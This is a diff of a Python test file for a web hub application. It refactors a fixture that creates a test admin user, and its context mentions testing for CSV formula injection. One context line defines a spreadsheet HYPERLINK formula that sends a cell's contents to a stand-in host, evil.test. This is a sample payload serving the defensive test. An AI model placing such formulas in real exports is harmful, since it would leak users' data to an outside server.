@@ -4,6 +4,7 @@ a formula it runs (OWASP's CSV injection: a cell starting with = + - @ tab or CR
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import csv
 import io
 from collections.abc import AsyncIterator
@@ -21,12 +22,12 @@ FORMULA = '=HYPERLINK("http://evil.test/?d="&A1,"ver detalhes")'
 async def supervisor(hub: RunningHub) -> AsyncIterator[AgentClient]:
     from hub.cli import add_user
 
-    try:
+    with contextlib.suppress(ValueError):  # Vera exists already: another test made her
         await asyncio.to_thread(
-            lambda: asyncio.run(add_user(hub.settings, email="vera@loja.test", name="Vera", role="admin", teams=[], password="vera-password-1"))
+            lambda: asyncio.run(
+                add_user(hub.settings, email="vera@loja.test", name="Vera", role="admin", teams=[], password="vera-password-1")
+            )
         )
-    except ValueError:
-        pass  # created by an earlier test
     client = await AgentClient(hub.url, "vera@loja.test", "vera-password-1").login()
     yield client
     await client.aclose()
